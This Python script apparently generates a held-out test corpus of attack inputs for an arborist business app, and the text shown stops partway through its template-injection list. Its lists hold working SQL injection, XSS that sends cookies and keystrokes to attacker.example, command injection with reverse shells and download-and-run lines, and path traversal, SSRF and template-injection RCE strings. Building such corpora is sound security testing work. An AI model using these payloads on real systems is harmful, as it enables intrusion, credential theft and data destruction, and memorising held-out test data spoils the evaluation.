#!/usr/bin/env python3
"""Attack values for the treesurgeon held-out corpus (arborist business app).
Standard library only. Writes attacks.jsonl next to this file.
Literals are hand-written; templates only join hand-written prefixes to
hand-written payloads, or apply one encoding."""
import json
import os
import random
import urllib.parse

SEED = 24202
PREFIX = "hahy"

SQLI = [
    ("note-union-select", "T3 oak crown reduction' UNION SELECT username,password_hash FROM users-- -"),
    ("note-union-select", "Q-2024-0381' UNION ALL SELECT NULL,email,api_key,NULL FROM customers#"),
    ("search-union-select", "leylandii%' UNION SELECT table_name,column_name FROM information_schema.columns-- "),
    ("plain-boolean", "' OR '1'='1"),
    ("plain-boolean", "' OR 1=1-- -"),
    ("note-boolean", "Mrs O'Neill' OR 'a'='a"),
    ("number-boolean", "2291 OR 1=1"),
    ("number-union-select", "2291 UNION SELECT 1,version(),current_user,4-- "),
    ("tpo-ref-time-mysql", "TPO/2019/0047' AND SLEEP(5)-- -"),
    ("tpo-ref-time-mysql", "TPO/2019/0047' AND (SELECT 1 FROM (SELECT SLEEP(7))x)-- -"),
    ("quote-time-pgsql", "Q-0381'; SELECT pg_sleep(10)--"),
    ("quote-time-pgsql", "Q-0381' AND 1=(SELECT 1 FROM pg_sleep(6))--"),
    ("job-time-mssql", "job 2291'; WAITFOR DELAY '0:0:8'--"),
    ("number-time-mssql", "2291; WAITFOR DELAY '00:00:05'--"),
    ("tpo-ref-time-oracle", "TPO/2003/0112' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',9)--"),
    ("note-time-sqlite", "sycamore' AND 1=randomblob(500000000)--"),
    ("note-benchmark-mysql", "ash dieback' AND BENCHMARK(50000000,SHA1('x'))-- -"),
    ("search-error-mysql", "oak' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -"),
    ("search-error-mysql", "beech' AND updatexml(1,concat(0x5c,database()),1)#"),
    ("number-error-pgsql", "2291 AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)"),
    ("note-error-mssql", "T5 sycamore' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("note-error-oracle", "G1 conifers' AND 1=utl_inaddr.get_host_name((SELECT banner FROM v$version WHERE rownum=1))--"),
    ("note-stacked-drop", "Storm job; tarp roof'); DROP TABLE jobs;--"),
    ("note-stacked-update", "Paid in full'; UPDATE invoices SET status='paid' WHERE customer_id=88;--"),
    ("note-stacked-insert", "ok'; INSERT INTO users(email,role) VALUES('x@attacker.example','admin');--"),
    ("mssql-xp-cmdshell", "hedge 45m'; EXEC master..xp_cmdshell 'ping 203.0.113.9';--"),
    ("mssql-oob", "T2'; EXEC master..xp_dirtree '\\\\ts.attacker.example\\a';--"),
    ("mysql-into-outfile", "chip' UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/s.php'-- -"),
    ("mysql-load-file", "T7 beech' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
    ("pgsql-copy-program", "R14'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--"),
    ("oracle-oob", "T9' UNION SELECT UTL_HTTP.REQUEST('http://203.0.113.44/'||(SELECT user FROM dual)) FROM dual--"),
    ("sqlite-schema", "willow' UNION SELECT name,sql FROM sqlite_master--"),
    ("sqlite-attach", "Q-2024-0412'; ATTACH DATABASE '/var/www/x.php' AS p; CREATE TABLE p.t(a text); INSERT INTO p.t VALUES('<?php system($_GET[0]);?>');--"),
    ("order-by-probe", "date' ORDER BY 9-- -"),
    ("sort-param-case", "created_at,(CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='a' THEN created_at ELSE id END)"),
    ("sort-param-time", "created_at desc,(SELECT SLEEP(5))"),
    ("limit-param", "10 PROCEDURE ANALYSE(extractvalue(1,concat(0x3a,version())),1)"),
    ("comment-as-space", "oak'/**/UNION/**/SELECT/**/password/**/FROM/**/users#"),
    ("mysql-versioned-comment", "lime' /*!50000UNION*/ /*!50000SELECT*/ 1,group_concat(email) FROM users-- -"),
    ("case-mixing", "birch' uNiOn SeLeCt null,pAsSwOrD fRoM users--"),
    ("no-space-parens", "'OR(1)=(1)#"),
    ("newline-space", "T4\n' \nUNION\nSELECT\n1,2,3\n-- "),
    ("hex-string", "' UNION SELECT 1,0x61646d696e,3 FROM users WHERE username=0x61646d696e-- -"),
    ("char-concat-mssql", "' UNION SELECT CHAR(97)+CHAR(100)+CHAR(109),2--"),
    ("pgsql-dollar-quote", "Mrs O''Hara' UNION SELECT $$a$$,current_setting($$data_directory$$)--"),
    ("boolean-substring", "T1' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a'-- -"),
    ("boolean-ascii", "T1' AND ASCII(SUBSTR((SELECT api_key FROM staff LIMIT 1),1,1))>64--"),
    ("like-wildcard-bool", "HR8 1AB' OR email LIKE '%@greenbough.example'-- -"),
    ("or-true-dquote", "\" OR \"\"=\""),
    ("paren-close", "oak') OR ('1'='1"),
    ("double-paren-close", "Q-0381')) OR 1=1-- -"),
    ("admin-login-bypass", "admin'-- "),
    ("login-bypass-hash", "tom@greenbough.example'#"),
    ("json-operator-mysql", "leylandii' OR JSON_EXTRACT('{\"a\":1}','$.a')=1-- -"),
    ("pgsql-stacked-role", "rope R09'; ALTER USER app WITH SUPERUSER;--"),
    ("mssql-openrowset", "T6'; SELECT * FROM OPENROWSET('SQLOLEDB','Server=203.0.113.5;uid=sa;pwd=x','SELECT 1');--"),
    ("number-subquery", "(SELECT CASE WHEN (1=1) THEN 2291 ELSE 1/0 END)"),
    ("number-subquery-count", "2291 AND 1=(SELECT COUNT(*) FROM users)"),
    ("number-having", "2291 GROUP BY id HAVING 1=1--"),
    ("having-probe", "' HAVING 1=1--"),
    ("backslash-escape-bypass", "oak\\' OR 1=1-- -"),
    ("oracle-concat", "T2' || (SELECT password FROM users WHERE rownum=1) || '"),
    ("sqlite-version", "' UNION SELECT sqlite_version(),2--"),
    ("mysql-if-sleep", "G2' AND IF(1=1,SLEEP(4),0) AND 'a'='a"),
    ("information-schema", "' UNION SELECT GROUP_CONCAT(table_name),2 FROM information_schema.tables WHERE table_schema=database()-- -"),
    ("insert-values-close", "Pete'), ('attacker','admin')-- "),
    ("update-set-inject", "Aisha', role='admin"),
    ("csv-import-sqli", "T14,Quercus robur,22,940,A1'); DELETE FROM trees;--"),
    ("fullwidth-quote-union+nfkc", "oak＇ UNION SELECT password FROM users--"),
    ("mssql-bracket", "G2 conifers';SELECT[name]FROM[sys].[databases]--"),
    ("h2-alias-rce", "Fomitopsis'; CREATE ALIAS EX AS 'String e(String c) throws Exception{return new String(Runtime.getRuntime().exec(c).getInputStream().readAllBytes());}'; CALL EX('id');--"),
]
SQLI_T_PREFIX = ["Rope R14 note: ", "T7 beech – ", "Customer Mrs D'Souza ", "Invoice INV-2291 ", "Survey 12 Orchard Lane "]
SQLI_T_PAYLOAD = ["x' UNION SELECT email,password FROM users-- -", "x' AND SLEEP(6)#",
                  "x'; DROP TABLE quotes;--", "x' OR 1=1 LIMIT 1-- -", "x' AND 1=CONVERT(int,@@version)--"]

XSS = [
    ("note-script", "Crown lift T3 <script>alert(document.domain)</script>"),
    ("note-script-exfil", "Crown lift T2 <script>fetch('//attacker.example/c?'+document.cookie)</script>"),
    ("note-img-onerror", "Photo: <img src=x onerror=alert(1)> IMG_4471.jpg"),
    ("note-svg-onload", "Site plan <svg onload=alert`1`>"),
    ("name-svg-onload", "Tom<svg/onload=confirm(1)>"),
    ("quote-body-onerror", "£650 + VAT <img src=1 onerror=\"location='//attacker.example/?'+document.cookie\">"),
    ("attr-breakout", "\" onmouseover=\"alert(1)\" x=\""),
    ("attr-breakout-single", "oak' autofocus onfocus='alert(document.cookie)"),
    ("attr-breakout-tag", "\"><script>alert(1)</script>"),
    ("href-javascript", "javascript:alert(document.cookie)"),
    ("website-field-javascript", "javascript://greenbough.example/%0aalert(1)"),
    ("href-javascript-entities", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("href-javascript-tab", "java\tscript:alert(1)"),
    ("href-data-html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("iframe-srcdoc", "Hi Tom, photos attached <iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"),
    ("iframe-javascript", "Rope R12 pass <iframe src=javascript:alert(1)>"),
    ("body-onload", "Fagus sylvatica – <body onload=alert(1)>"),
    ("details-ontoggle", "Kit check <details open ontoggle=alert(1)>"),
    ("input-autofocus", "Job 2291 notes: <input autofocus onfocus=alert(1)>"),
    ("video-source-onerror", "£420 deadwood <video><source onerror=alert(1)></video>"),
    ("audio-onerror", "Jas Singh <audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "TPO/2021/0315 <marquee onstart=alert(1)>storm</marquee>"),
    ("a-href-js", "Map: <a href=\"javascript:alert(1)\">site plan</a>"),
    ("object-data", "Stump grind 600mm <object data=\"javascript:alert(1)\"></object>"),
    ("embed-src", "Storm call-out <embed src=\"data:text/html,<script>alert(1)</script>\">"),
    ("math-href", "Crown lift T2 <math><mtext><a xlink:href=\"javascript:alert(1)\">x</a></mtext></math>"),
    ("svg-animate", "Hi Tom, photos attached <svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-set-href", "Rope R12 pass <svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>TPO</text></a></svg>"),
    ("script-src-remote", "Fagus sylvatica – <script src=//attacker.example/x.js></script>"),
    ("script-case-mix", "Job 2291 notes: <ScRiPt>alert(1)</sCrIpT>"),
    ("script-split-nested", "£420 deadwood <scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("img-no-quotes-slash", "Jas Singh <img/src/onerror=alert(1)>"),
    ("img-entity-handler", "TPO/2021/0315 <img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("img-unicode-escape", "Stump grind 600mm <img src=x onerror=\\u0061lert(1)>"),
    ("handler-fromcharcode", "Storm call-out <img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("handler-atob", "Crown lift T2 <svg onload=eval(atob('YWxlcnQoMSk='))>"),
    ("handler-constructor", "Hi Tom, photos attached <img src=x onerror=[].constructor.constructor('alert(1)')()>"),
    ("handler-top-bracket", "Rope R12 pass <svg onload=top['al'+'ert'](1)>"),
    ("js-string-breakout", "';alert(1);//"),
    ("js-string-breakout-dq", "\";alert(document.domain);//"),
    ("js-template-literal", "${alert(document.cookie)}"),
    ("script-close-breakout", "</script><script>alert(1)</script>"),
    ("textarea-breakout", "</textarea><img src=x onerror=alert(1)>"),
    ("title-breakout", "</title><svg onload=alert(1)>"),
    ("style-breakout", "</style><img src=x onerror=alert(1)>"),
    ("comment-breakout", "--><img src=x onerror=alert(1)><!--"),
    ("markdown-link-js", "See [survey report](javascript:alert(document.cookie))"),
    ("markdown-img-onerror", "![tree](x\" onerror=\"alert(1))"),
    ("angular-csti", "{{constructor.constructor('alert(1)')()}}"),
    ("vue-csti", "Fagus sylvatica – <div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("form-action-hijack", "Job 2291 notes: <form action=//attacker.example/login><input name=pw type=password><button>Re-login</button></form>"),
    ("meta-refresh", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">"),
    ("base-href-hijack", "<base href=//attacker.example/>"),
    ("link-import", "<link rel=stylesheet href=//attacker.example/x.css>"),
    ("svg-foreignobject", "£420 deadwood <svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
    ("svg-use-data", "Jas Singh <svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"),
    ("event-onpointerenter", "TPO/2021/0315 <div onpointerenter=alert(1) style=position:fixed;inset:0>"),
    ("event-onanimationstart", "Stump grind 600mm <style>@keyframes k{}</style><b style=animation-name:k onanimationstart=alert(1)>"),
    ("fullwidth-brackets+nfkc", "＜script＞alert(1)＜/script＞"),
    ("entity-encoded-script+double-decode", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("newline-in-tag", "Storm call-out <img\nsrc=x\nonerror=alert(1)>"),
    ("formfeed-in-tag", "Crown lift T2 <img\u000csrc=x\u000conerror=alert(1)>"),
    ("keylogger", "Hi Tom, photos attached <img src=x onerror=\"document.onkeypress=function(e){new Image().src='//attacker.example/k?'+e.key}\">"),
    ("cookie-steal-beacon", "Rope R12 pass <svg onload=navigator.sendBeacon('//attacker.example',document.cookie)>"),
    ("xml-cdata-xss", "Fagus sylvatica – <x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>"),
    ("srcset-onerror", "Job 2291 notes: <img srcset=x onerror=alert(1)>"),
    ("dom-hash-payload", "#<img src=x onerror=alert(1)>"),
    ("staff-bio-script", "Lead climber, CS38/CS39 <script>new Image().src='https://attacker.example/s?c='+localStorage.token</script>"),
]
XSS_T_PREFIX = ["Job log 15:40 ", "Customer message: Hi Tom, ", "Species note Quercus robur ", "Quote line 3 – ", "Kit R14 "]
XSS_T_PAYLOAD = ["<img src=x onerror=alert(1)>", "<svg onload=alert(document.cookie)>", "<script>alert(1)</script>",
                 "<iframe src=javascript:alert(1)>", "\"><svg onload=alert(1)>"]

CMDI = [
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("filename-semicolon", "IMG_4471.jpg; curl http://attacker.example/s.sh | sh"),
    ("filename-and", "site_plan.pdf && wget http://203.0.113.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x"),
    ("filename-or", "tree1.jpg || nc 203.0.113.12 4444 -e /bin/sh"),
    ("filename-subshell", "survey_$(whoami).pdf"),
    ("filename-backtick", "quote_`id`.pdf"),
    ("postcode-subshell", "HR8 1AB$(curl -s attacker.example/a|bash)"),
    ("newline-inject", "T3 oak\ncat /etc/shadow"),
    ("newline-urlenc", "T3%0aid"),
    ("reverse-shell-bash", "chipper.pdf; bash -i >& /dev/tcp/203.0.113.50/443 0>&1"),
    ("reverse-shell-python", "IMG_4480.jpg; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.50\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("reverse-shell-mkfifo", "photo.jpg;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.3 4444 >/tmp/f"),
    ("ifs-space", "T3_oak.jpg;cat${IFS}/etc/passwd"),
    ("ifs-space-short", "survey_0047.pdf;cat$IFS$9/etc/passwd"),
    ("brace-expansion", "R14_check.csv;{cat,/etc/passwd}"),
    ("quote-split", "quote_0381.pdf;c'a't /e\"t\"c/pa''sswd"),
    ("backslash-split", "stump.jpg;w\\ho\\am\\i"),
    ("wildcard-path", "hedge_45m.png;/???/c?t /???/p?ss??"),
    ("var-concat", "site_plan_rev_B.pdf;a=ca;b=t;$a$b /etc/passwd"),
    ("base64-pipe", "chipper_hours.txt; echo Y3VybCBhdHRhY2tlci5leGFtcGxlL3h8c2g= | base64 -d | sh"),
    ("hex-printf", "tpo_map.png;$(printf '\\x69\\x64')"),
    ("sleep-blind", "T4 sycamore; sleep 10"),
    ("ping-blind", "G1 & ping -c 10 127.0.0.1 &"),
    ("dns-exfil", "IMG_4480.jpg; nslookup $(whoami).oob.attacker.example"),
    ("curl-exfil", "T3_oak.jpg; curl -d @/etc/passwd http://attacker.example/u"),
    ("process-substitution", "survey_0047.pdf; cat <(id)"),
    ("redirect-write", "R14_check.csv; echo '* * * * * root curl attacker.example|sh' > /etc/cron.d/x"),
    ("ssh-key-plant", "quote_0381.pdf; echo 'ssh-ed25519 AAAAC3NzaFAKEKEY attacker' >> ~/.ssh/authorized_keys"),
    ("arg-inject-curl", "-o /var/www/html/shell.php http://attacker.example/shell.txt"),
    ("arg-inject-curl-config", "--config /etc/passwd"),
    ("arg-inject-wget", "--post-file=/etc/passwd http://attacker.example/"),
    ("arg-inject-tar", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("arg-inject-find", "photos -exec sh -c 'id > /tmp/o' \\;"),
    ("arg-inject-git", "--upload-pack=touch /tmp/pwned"),
    ("arg-inject-ssh", "-oProxyCommand=sh -c 'curl attacker.example|sh' x"),
    ("arg-inject-zip", "-TT 'sh -c id' archive.zip"),
    ("arg-inject-rsync", "-e 'sh -c id' x:/"),
    ("arg-inject-imagemagick", "photo.jpg -write msl:/tmp/x.msl"),
    ("arg-inject-sendmail", "tom@greenbough.example -X /var/www/html/log.php -OQueueDirectory=/tmp"),
    ("arg-inject-gs", "-dSAFER=false -sOutputFile=%pipe%id report.pdf"),
    ("windows-amp", "quote.pdf & type C:\\Windows\\win.ini"),
    ("windows-pipe", "stump.jpg | whoami /all"),
    ("windows-certutil", "hedge_45m.png & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("windows-caret", "site_plan_rev_B.pdf & w^h^o^a^m^i"),
    ("windows-env-substr", "chipper_hours.txt & %COMSPEC:~-7,1%hoami"),
    ("windows-bitsadmin", "tpo_map.png && bitsadmin /transfer j http://203.0.113.8/p.exe C:\\Users\\Public\\p.exe"),
    ("windows-rundll", "IMG_4480.jpg & rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)"),
    ("powershell-iex", "T3_oak.jpg; powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
    ("powershell-enc", "survey_0047.pdf & powershell -enc SQBFAFgAIAAoAGkAdwByACAAYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQApAA=="),
    ("powershell-subexpr", "T3 $(Invoke-WebRequest -Uri http://203.0.113.9/ -Method POST -Body (Get-Content C:\\secrets.txt))"),
    ("powershell-iwr-short", "R14_check.csv; iwr attacker.example/s.ps1|iex"),
    ("perl-oneliner", "quote_0381.pdf; perl -e 'system(\"id\")'"),
    ("php-cli", "stump.jpg; php -r 'system(\"id\");'"),
    ("node-cli", "hedge_45m.png; node -e \"require('child_process').execSync('id')\""),
    ("awk-system", "site_plan_rev_B.pdf; awk 'BEGIN{system(\"id\")}'"),
    ("busybox-telnetd", "chipper_hours.txt; busybox telnetd -l /bin/sh -p 31337"),
    ("chmod-suid", "tpo_map.png && cp /bin/sh /tmp/s && chmod u+s /tmp/s"),
    ("kill-ops", "IMG_4480.jpg; kill -9 -1"),
    ("rm-destroy", "T3_oak.jpg; rm -rf --no-preserve-root /"),
    ("env-leak", "survey_0047.pdf; env | curl -X POST --data-binary @- http://attacker.example/e"),
    ("aws-creds", "R14_check.csv; cat ~/.aws/credentials"),
    ("dollar-brace", "${IFS}id"),
    ("tab-space", "quote_0381.pdf;\tcat\t/etc/passwd"),
]
CMDI_T_PREFIX = ["IMG_4502.jpg", "TPO_0047_plan.pdf", "kit_check_R14.csv", "quote_Q-0381.pdf"]
CMDI_T_PAYLOAD = ["; id", " && cat /etc/passwd", " | nc 203.0.113.4 80 < /etc/hosts", "$(sleep 8)", "`uname -a`"]

TRAVERSAL = [
    ("plain-dotdot", "../../../../etc/passwd"),
    ("photo-dotdot", "IMG_4471.jpg/../../../../etc/shadow"),
    ("photo-path-dotdot", "jobs/2291/photos/../../../../../etc/passwd"),
    ("template-dotdot", "../../../../../proc/self/environ"),
    ("report-absolute", "/etc/passwd"),
    ("report-absolute-proc", "/proc/self/cmdline"),
    ("logo-dotdot-config", "../../config/database.yml"),
    ("logo-dotdot-env", "../../../.env"),
    ("git-config", "../../.git/config"),
    ("ssh-key", "../../../../root/.ssh/id_rsa"),
    ("windows-backslash", "..\\..\\..\\..\\windows\\win.ini"),
    ("windows-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("windows-unc", "\\\\203.0.113.20\\share\\x.docx"),
    ("windows-mixed-slash", "..\\../..\\../boot.ini"),
    ("windows-webconfig", "..\\..\\web.config"),
    ("urlenc-dotdot", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("urlenc-slash-only", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("double-urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("overlong-utf8-slash", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("overlong-utf8-3byte", "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd"),
    ("percent-u", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("backslash-urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("dot-dot-slash-filter-bypass", "....//....//....//etc/passwd"),
    ("dot-dot-backslash-filter-bypass", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("nested-dotdot", "..././..././..././etc/passwd"),
    ("null-byte-ext", "../../../../etc/passwd%00.jpg"),
    ("null-byte-raw", "../../../etc/passwd\u0000.pdf"),
    ("file-uri", "file:///etc/passwd"),
    ("file-uri-windows", "file:///C:/Windows/win.ini"),
    ("php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("php-filter-chain", "php://filter/read=string.rot13/resource=index.php"),
    ("php-zip-wrapper", "zip://uploads/IMG_4471.jpg%23shell.php"),
    ("php-phar-wrapper", "phar://uploads/site_plan.jpg/x.php"),
    ("php-input", "php://input"),
    ("php-data", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg=="),
    ("expect-wrapper", "expect://id"),
    ("java-web-inf", "../../WEB-INF/web.xml"),
    ("tomcat-semicolon", "..;/..;/manager/html"),
    ("docker-secrets", "../../../../run/secrets/db_password"),
    ("k8s-token", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("log-poison-path", "../../../../var/log/nginx/access.log"),
    ("fullwidth-dots", "．．／．．／．．／etc／passwd"),
    ("unicode-dot-variant", "\u2024\u2024/\u2024\u2024/etc/passwd"),
]
TRAV_T_PREFIX = ["jobs/2291/", "uploads/tpo/0047/", "reports/2024/", "kit/R14/"]
TRAV_T_PAYLOAD = ["../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fhosts", "..\\..\\..\\..\\windows\\win.ini"]

SSRF = [
    ("calendar-url-metadata-aws", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("calendar-url-metadata-aws-token", "http://169.254.169.254/latest/api/token"),
    ("webhook-metadata-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("webhook-metadata-azure", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("photo-url-metadata-alibaba", "http://100.100.100.200/latest/meta-data/"),
    ("photo-url-ecs-task", "http://169.254.170.2/v2/credentials/"),
    ("ical-localhost-admin", "http://127.0.0.1:8080/admin"),
    ("ical-localhost-name", "http://localhost/server-status"),
    ("webhook-redis", "http://127.0.0.1:6379/"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron%0D%0ASAVE%0D%0A"),
    ("gopher-smtp", "gopher://10.0.0.25:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0A"),
    ("dict-scheme", "dict://127.0.0.1:11211/stats"),
    ("file-scheme-fetch", "file:///root/.aws/credentials"),
    ("ftp-internal", "ftp://10.0.0.5/backup.sql"),
    ("ldap-scheme", "ldap://127.0.0.1:389/dc=greenbough,dc=local"),
    ("tftp-scheme", "tftp://203.0.113.9/x"),
    ("decimal-ip", "http://2130706433/admin"),
    ("decimal-ip-metadata", "http://2852039166/latest/meta-data/"),
    ("hex-ip", "http://0x7f000001/"),
    ("hex-ip-metadata", "http://0xa9fea9fe/latest/user-data"),
    ("octal-ip", "http://0177.0.0.1/"),
    ("octal-dotted-metadata", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("short-ip", "http://127.1/"),
    ("zero-ip", "http://0.0.0.0:9200/_cat/indices"),
    ("ipv6-loopback", "http://[::1]:8500/v1/agent/self"),
    ("ipv6-mapped-v4", "http://[::ffff:127.0.0.1]/"),
    ("ipv6-mapped-metadata", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("ipv6-metadata-aws", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("userinfo-confusion", "https://greenbough.example@169.254.169.254/latest/meta-data/"),
    ("userinfo-confusion-hash", "http://127.0.0.1#@greenbough.example/"),
    ("backslash-confusion", "http://greenbough.example\\@127.0.0.1/"),
    ("dns-rebind-wildcard", "http://127.0.0.1.nip.io/admin"),
    ("attacker-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("attacker-sub-resolves-internal", "http://internal.attacker.example/"),
    ("rfc1918-admin", "http://192.168.1.1/cgi-bin/luci"),
    ("rfc1918-k8s", "https://10.96.0.1/api/v1/namespaces/default/secrets"),
    ("internal-service-name", "http://kubernetes.default.svc/api/v1/secrets"),
    ("internal-consul", "http://consul.service.consul:8500/v1/kv/?recurse"),
    ("docker-socket-api", "http://172.17.0.1:2375/containers/json"),
    ("elasticsearch-internal", "http://10.0.3.14:9200/_search?q=*"),
    ("encoded-host", "http://%31%32%37%2e%30%2e%30%2e%31/"),
    ("fullwidth-host", "http://１２７．０．０．１/"),
    ("enclosed-alnum-host", "http://⑯⑨。②⑤④。⑯⑨｡②⑤④/"),
    ("jar-scheme", "jar:http://203.0.113.30/x.jar!/"),
]
SSRF_T_PREFIX = ["Calendar sync URL: ", "Webhook → ", "Photo import: ", "Map tiles URL: "]
SSRF_T_PAYLOAD = ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:2375/containers/json",
                  "http://[::1]/admin", "http://0x7f.1/"]

CODE = [
    ("ssti-jinja2-rce", "Dear {{ cycler.__init__.__globals__.os.popen('id').read() }},"),
    ("ssti-jinja2-config", "Quote {{ config.items() }}"),
    ("ssti-jinja2-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja2-lipsum", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("ssti-jinja2-attr-filter", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("ssti-jinja2-block", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("ssti-twig-filter", "{{ ['id']|filter('system') }}"),
    ("ssti-twig-map", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("ssti-twig-env", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
    ("ssti-freemarker-assign", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"whoami\")}"),
    ("ssti-velocity", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")"),
    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb-system", "Hi <%= system('cat /etc/passwd') %>"),
    ("ssti-slim-ruby", "#{`id`}"),
    ("ssti-mako", "${self.module.cache.util.os.system('id')}"),
    ("ssti-mako-import", "<% import os; x=os.popen('id').read() %>${x}"),
    ("ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty-php", "{php}echo `id`;{/php}"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("ssti-go-template", "{{ .Env }}{{ range $k, $v := .Secrets }}{{ $k }}={{ $v }}{{ end }}"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("ssti-jinja2-in-sms", "Hi ${first_name}, {{ self.__init__.__globals__.__builtins__.__import__('os').system('curl attacker.example|sh') }}"),
    ("el-spring", "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}"),
    ("spel-hash", "#{T(java.lang.System).getenv()}"),
    ("spel-processbuilder", "#{new java.lang.ProcessBuilder({'sh','-c','id'}).start()}"),
    ("el-jsp", "${pageContext.request.getSession().setAttribute(\"admin\",true)}"),
    ("el-java-scriptengine", "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}"),
    ("ognl-struts", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("ognl-struts-memberaccess", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
